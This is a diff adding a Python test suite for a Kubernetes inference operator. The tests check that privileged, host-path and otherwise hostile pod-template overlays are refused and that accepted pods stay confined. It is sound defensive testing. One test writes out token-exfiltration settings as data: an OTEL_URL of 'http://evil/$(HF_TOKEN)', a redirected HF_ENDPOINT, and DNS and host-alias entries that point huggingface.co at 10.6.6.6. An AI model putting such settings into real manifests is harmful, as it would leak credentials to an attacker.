@@ -1,0 +1,220 @@
+"""What an overlay may hold: the hostile is refused with its path, the rest is rendered into pods that are confined."""
+
+from collections.abc import Callable, Iterator
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from pdinference.api.v1alpha1 import PDInference
+from pdinference.api.validation import InvalidResourceError
+from pdinference.checks import examine
+from pdinference.manifests import RenderSettings, render
+from pdinference.manifests.pod_security import restricted_problems
+from tests.conftest import allowing
+from tests.hostile.pod_templates import HOSTILE, LEGITIMATE, Json
+
+Make = Callable[..., PDInference]
+TOKEN = {"source": {"huggingFace": {"repository": "a/b", "tokenSecret": {"name": "hub", "key": "token"}}}}
+
+
+def problems(document: Json, settings: RenderSettings = RenderSettings()) -> dict[str, str]:  # noqa: B008 - frozen
+    return {problem.field: problem.message for problem in examine(document, settings).problems}
+
+
+def pods(resource: PDInference, settings: RenderSettings = RenderSettings()) -> Iterator[Json]:  # noqa: B008 - frozen
+    for manifest in render(resource, settings).objects:
+        if "template" in manifest.get("spec", {}):
+            yield manifest["spec"]["template"]
+
+
+@pytest.mark.parametrize("role", ["parameter", "decode", "router"])
+@pytest.mark.parametrize("name", HOSTILE)
+def test_what_is_hostile_is_refused_with_its_path(document: Callable[..., Json], name: str, role: str) -> None:
+    overlay, path = HOSTILE[name]
+    settings = RenderSettings(policy=allowing("/data/llama"))
+    found = problems(document(**{role: {"podTemplate": overlay}}), settings)
+    assert f"spec.{role}.podTemplate.{path}" in found
+
+
+@pytest.mark.parametrize("name", LEGITIMATE)
+def test_what_is_legitimate_is_accepted_and_confined(document: Callable[..., Json], name: str) -> None:
+    made = document(decode={"podTemplate": LEGITIMATE[name]})
+    assert problems(made) == {}
+    for pod in pods(PDInference.model_validate(made)):
+        assert list(restricted_problems(pod)) == []
+
+
+def test_a_side_car_is_confined_without_saying_so(resource: Make) -> None:
+    overlay = {"spec": {"containers": [{"name": "s", "image": "s:1"}], "initContainers": [{"name": "i", "image": "i"}]}}
+    *_, pod = (p for p in pods(resource(decode={"podTemplate": overlay})) if len(p["spec"]["containers"]) == 2)
+    for container in (pod["spec"]["containers"][1], pod["spec"]["initContainers"][0]):
+        assert container["securityContext"] == {
+            "allowPrivilegeEscalation": False,
+            "capabilities": {"drop": ["ALL"]},
+        }
+
+
+def test_a_config_map_opens_nothing_of_vllm(resource: Make) -> None:
+    overlay = {"spec": {"containers": [{"name": "vllm", "envFrom": [{"configMapRef": {"name": "any"}}]}]}}
+    made = pods(resource(decode={"podTemplate": overlay}))
+    (vllm,) = (pod["spec"]["containers"][0] for pod in made if "envFrom" in pod["spec"]["containers"][0])
+    set_by_itself = {variable["name"]: variable.get("value") for variable in vllm["env"]}
+    assert set_by_itself["VLLM_SERVER_DEV_MODE"] == set_by_itself["VLLM_ALLOW_INSECURE_SERIALIZATION"] == "0"
+    dynamic = resource(
+        model={"source": {"path": "/m"}, "lora": {"dynamicLoading": True}}, decode={"podTemplate": overlay}
+    )
+    values = [
+        v["value"] for p in pods(dynamic) for v in p["spec"]["containers"][0].get("env", ()) if "LORA" in v["name"]
+    ]
+    assert set(values) == {"1"}
+
+
+def test_a_refusal_names_the_value_that_would_allow_it(document: Callable[..., Json]) -> None:
+    for name, value in {
+        "nfs": "policy.volumeTypes",
+        "secret": "policy.secrets",
+        "env-from-secret": "policy.secrets",
+        "label-app": "policy.labels",
+        "annotation-istio": "policy.annotations",
+        "runtime": "policy.runtimeClasses",
+        "system-priority": "policy.priorityClasses",
+        "control-plane": "policy.tolerations",
+        "every-taint": "policy.tolerations",
+        "ipc-lock": "policy.capabilities",
+        "host-path": "allowedHostPaths",
+    }.items():
+        overlay, path = HOSTILE[name]
+        assert value in problems(document(decode={"podTemplate": overlay}))[f"spec.decode.podTemplate.{path}"], name
+
+
+@pytest.mark.parametrize(
+    ("name", "policy"),
+    [
+        ("nfs", {"volumeTypes": ["nfs"]}),
+        ("csi", {"volumeTypes": ["csi"]}),
+        ("secret", {"secrets": ["data*"]}),
+        ("env-from-secret", {"secrets": ["database"]}),
+        ("label-app", {"labels": ["app"]}),
+        ("annotation-istio", {"annotations": ["*.istio.io/*"]}),
+        ("runtime", {"runtimeClasses": ["*"]}),
+        ("system-priority", {"priorityClasses": ["system-node-*"]}),
+        ("control-plane", {"tolerations": ["node-role.kubernetes.io/*"]}),
+        ("every-taint", {"tolerations": ["*", ""]}),
+        ("sys-admin", {"capabilities": ["SYS_ADMIN"]}),
+    ],
+)
+def test_the_installation_can_allow_more(document: Callable[..., Json], name: str, policy: Json) -> None:
+    settings = RenderSettings(policy=allowing(**policy))
+    made = document(decode={"podTemplate": HOSTILE[name][0]})
+    assert problems(made, settings) == {}
+    assert list(pods(PDInference.model_validate(made), settings))
+
+
+@pytest.mark.parametrize("name", ["system-priority", "control-plane", "every-taint"])
+def test_a_star_alone_does_not_allow_what_is_reserved(document: Callable[..., Json], name: str) -> None:
+    everything = RenderSettings(policy=allowing(tolerations=["*"], priorityClasses=["*"]))
+    assert problems(document(decode={"podTemplate": HOSTILE[name][0]}), everything)
+
+
+@pytest.mark.parametrize("volume", ["hostPath", "gitRepo"])
+def test_no_policy_allows_folders_of_the_node_in_overlays(volume: str) -> None:
+    with pytest.raises(ValueError, match=r"volumeTypes"):
+        allowing(volumeTypes=[volume])
+
+
+@pytest.mark.parametrize(
+    ("spec", "path"),
+    [
+        (
+            {"containers": [{"name": "vllm", "env": [{"name": "HF_ENDPOINT", "value": "https://evil"}]}]},
+            "env[HF_ENDPOINT]",
+        ),
+        ({"containers": [{"name": "vllm", "envFrom": [{"configMapRef": {"name": "c"}}]}]}, "envFrom"),
+        (
+            {
+                "containers": [
+                    {
+                        "name": "vllm",
+                        "env": [{"name": "https_proxy", "valueFrom": {"configMapKeyRef": {"name": "c", "key": "k"}}}],
+                    }
+                ]
+            },
+            "env[https_proxy]",
+        ),
+        ({"hostAliases": [{"ip": "10.6.6.6", "hostnames": ["HuggingFace.co."]}]}, "hostAliases[10.6.6.6]"),
+        (
+            {"containers": [{"name": "vllm", "env": [{"name": "OTEL_URL", "value": "http://evil/$(HF_TOKEN)"}]}]},
+            "env[OTEL_URL]",
+        ),
+        ({"dnsConfig": {"nameservers": ["10.6.6.6"]}}, "dnsConfig.nameservers"),
+    ],
+)
+def test_an_overlay_leads_no_token_elsewhere(document: Callable[..., Json], spec: Json, path: str) -> None:
+    overlay = {"decode": {"podTemplate": {"spec": spec}}}
+    assert [field for field in problems(document(model=TOKEN, **overlay)) if field.endswith(path)]
+    assert not [field for field in problems(document(**overlay)) if field.endswith(path)]
+
+
+_PARTS = st.sampled_from([*(overlay for overlay, _ in HOSTILE.values()), *LEGITIMATE.values()])
+_CONTEXTS = st.fixed_dictionaries(
+    {},
+    optional={
+        "privileged": st.booleans(),
+        "allowPrivilegeEscalation": st.booleans(),
+        "runAsNonRoot": st.booleans(),
+        "runAsUser": st.sampled_from([0, 1, 1000, -1, True, "0"]),
+        "runAsGroup": st.sampled_from([0, 5]),
+        "capabilities": st.fixed_dictionaries(
+            {},
+            optional={
+                "drop": st.sampled_from([[], ["ALL"], ["all"], ["NET_RAW"], "ALL", None]),
+                "add": st.lists(st.sampled_from(["NET_BIND_SERVICE", "IPC_LOCK", "SYS_PTRACE"]), max_size=2),
+            },
+        ),
+        "seccompProfile": st.sampled_from([{"type": "RuntimeDefault"}, {"type": "Unconfined"}, {}, "RuntimeDefault"]),
+        "procMount": st.sampled_from(["Default", "Unmasked"]),
+    },
+)
+_CONTAINERS = st.lists(
+    st.fixed_dictionaries(
+        {"name": st.sampled_from(["vllm", "router", "pdinference-model", "s", "t"]), "securityContext": _CONTEXTS},
+        optional={"image": st.just("s:1"), "ports": st.sampled_from([[], [{"containerPort": 1, "hostPort": 0}]])},
+    ),
+    max_size=3,
+)
+_OVERLAYS = st.builds(
+    lambda parts, spec: _all([*parts, {"spec": spec}]),
+    st.lists(_PARTS, max_size=3),
+    st.fixed_dictionaries(
+        {}, optional={"containers": _CONTAINERS, "initContainers": _CONTAINERS, "securityContext": _CONTEXTS}
+    ),
+)
+
+
+def _all(parts: list[Any]) -> Json:
+    result: Json = {}
+    for part in parts:
+        for name, member in part.items():
+            known = result.get(name)
+            result[name] = {**known, **member} if isinstance(known, dict) and isinstance(member, dict) else member
+    return result
+
+
+@given(_OVERLAYS, st.sampled_from(["parameter", "decode", "router"]))
+def test_whatever_is_accepted_meets_the_restricted_standard(overlay: Json, role: str) -> None:
+    document = {
+        "apiVersion": "pdinference.io/v1alpha1",
+        "kind": "PDInference",
+        "metadata": {"name": "x"},
+        "spec": {"model": {"source": {"path": "/m"}}, role: {"podTemplate": overlay}},
+    }
+    settings = RenderSettings()
+    resource = examine(document, settings).resource
+    if resource is None:
+        with pytest.raises(InvalidResourceError):
+            render(PDInference.model_validate(document), settings)
+        return
+    for pod in pods(resource, settings):
+        assert list(restricted_problems(pod)) == []
